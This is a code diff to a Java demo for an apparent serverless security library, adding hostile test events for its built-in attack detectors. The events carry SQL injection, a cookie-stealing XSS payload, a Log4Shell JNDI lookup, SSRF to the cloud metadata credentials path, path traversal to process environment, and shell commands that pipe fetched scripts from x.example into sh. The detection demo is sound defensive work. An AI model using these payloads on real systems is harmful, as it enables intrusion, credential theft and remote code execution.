@@ -8,6 +8,8 @@ import dev.vigil.core.telemetry.VigilError;
 import dev.vigil.shield.Shield;
 import dev.vigil.shield.aws.WrapperHandler;
 import dev.vigil.shield.detect.CanaryDetector;
+import dev.vigil.shield.detect.Detector;
+import dev.vigil.shield.detect.Detectors;
 import dev.vigil.shield.json.Json;
 import dev.vigil.shield.policy.AuthenticityConfig;
 import dev.vigil.shield.policy.BatchMode;
@@ -25,10 +27,9 @@ import java.util.List;
 import java.util.Map;
 
 /**
- * Demo v0: the bundled order functions run behind the zero-code {@link WrapperHandler} with benign and hostile events,
- * offline, and every telemetry event is kept for the report. Attack detectors arrive with the next issue; until then
- * the hostile events use Vigil's test marker ({@link CanaryDetector}) and show authenticity, hygiene and every
- * blocking path.
+ * The demo: the bundled order functions run behind the zero-code {@link WrapperHandler} and the built-in detectors,
+ * offline, with benign traffic and real attacks over HTTP, SQS and S3 triggers, plus authenticity, hygiene and every
+ * blocking path; every telemetry event is kept for the report.
  */
 public final class Demo {
 
@@ -77,17 +78,54 @@ public final class Demo {
                 "Benign order lookup",
                 apiHandler,
                 "orders-api",
-                DemoEvents.http("GET", "/orders/42", "", Map.of(), null)));
+                DemoEvents.http("GET", "/orders/42", "status=shipped&sort=date", Map.of(), null)));
         scenarios.add(invoke(
-                "Benign lookup again (residue check)",
+                "Benign order with prose and a public URL",
                 apiHandler,
                 "orders-api",
-                DemoEvents.http("GET", "/orders/43", "", Map.of(), null)));
+                DemoEvents.http(
+                        "POST",
+                        "/orders",
+                        "",
+                        Map.of("content-type", "application/json"),
+                        "{\"order\":{\"customer\":\"Siobhan O'Brien\",\"note\":\"Please select the blue one from"
+                                + " the catalogue; leave it at the door & ring twice.\",\"site\":"
+                                + "\"https://shop.example.com/items?id=42&ref=mail\"}}")));
         scenarios.add(invoke(
-                "Test marker in the query string",
+                "SQL injection in the query string",
                 apiHandler,
                 "orders-api",
-                DemoEvents.http("GET", "/orders/search", "q=" + marker, Map.of(), null)));
+                DemoEvents.http("GET", "/orders/search", "q=" + urlEncode("shoes' OR 'x'='x' -- "), Map.of(), null)));
+        scenarios.add(invoke(
+                "XSS in a JSON body",
+                apiHandler,
+                "orders-api",
+                DemoEvents.http(
+                        "POST",
+                        "/orders",
+                        "",
+                        Map.of("content-type", "application/json"),
+                        "{\"order\":{\"note\":\"<svg/onload=fetch('//x.example/'+document.cookie)>\"}}")));
+        scenarios.add(invoke(
+                "Log4Shell lookup in a header",
+                apiHandler,
+                "orders-api",
+                DemoEvents.http(
+                        "GET",
+                        "/orders/42",
+                        "",
+                        Map.of("x-api-version", "${${lower:J}ndi:ldap://x.example:1389/o}"),
+                        null)));
+        scenarios.add(invoke(
+                "SSRF to the metadata service in a body",
+                apiHandler,
+                "orders-api",
+                DemoEvents.http(
+                        "POST",
+                        "/orders/callback",
+                        "",
+                        Map.of("content-type", "application/json"),
+                        "{\"callbackUrl\":\"http://0xA9FEA9FE/latest/meta-data/iam/security-credentials/\"}")));
         scenarios.add(invoke(
                 "Test marker URL-encoded in a JSON body",
                 apiHandler,
@@ -116,17 +154,26 @@ public final class Demo {
                 "orders-api",
                 DemoEvents.http("GET", "/orders/boom", "", Map.of(), null)));
         scenarios.add(invoke(
-                "SQS batch of 3, one with the marker (drop)",
+                "SQS batch, command injection in one (drop)",
                 eventsHandler,
                 "order-events",
-                DemoEvents.sqs(
-                        List.of("{\"orderId\":1}", "{\"orderId\":2,\"note\":\"" + marker + "\"}", "{\"orderId\":3}"))));
+                DemoEvents.sqs(List.of(
+                        "{\"orderId\":1}",
+                        "{\"orderId\":2,\"invoice\":\"inv-2.pdf; curl -s http://x.example/k.sh | sh\"}",
+                        "{\"orderId\":3}"))));
         scenarios.add(invoke(
-                "SQS batch of 3, one with the marker (report)",
+                "SQS batch, path traversal in one (report)",
                 eventsReportHandler,
                 "order-events",
-                DemoEvents.sqs(
-                        List.of("{\"orderId\":4}", "{\"orderId\":5}", "{\"orderId\":6,\"sku\":\"" + marker + "\"}"))));
+                DemoEvents.sqs(List.of(
+                        "{\"orderId\":4}",
+                        "{\"orderId\":5}",
+                        "{\"orderId\":6,\"attachment\":\"..%2f..%2f..%2f..%2fproc%2fself%2fenviron\"}"))));
+        scenarios.add(invoke(
+                "S3 upload whose key is a shell command",
+                eventsHandler,
+                "order-events",
+                DemoEvents.s3("acme-uploads", "invoices/$(wget -qO- x.example/p|sh).pdf")));
         return new Result(coldStart, scenarios, sink.events());
     }
 
@@ -150,13 +197,11 @@ public final class Demo {
                 auth,
                 d.telemetry(),
                 "demo:" + name);
-        return Shield.builder()
-                .policy(policy)
-                .detector(new CanaryDetector())
-                .sink(sink)
-                .environment(env)
-                .tmpDirectory(scratch)
-                .build();
+        Shield.Builder builder = Shield.builder().policy(policy);
+        for (Detector detector : Detectors.builtIn()) {
+            builder.detector(detector);
+        }
+        return builder.sink(sink).environment(env).tmpDirectory(scratch).build();
     }
 
     private Scenario invoke(String name, WrapperHandler handler, String function, byte[] event) throws IOException {
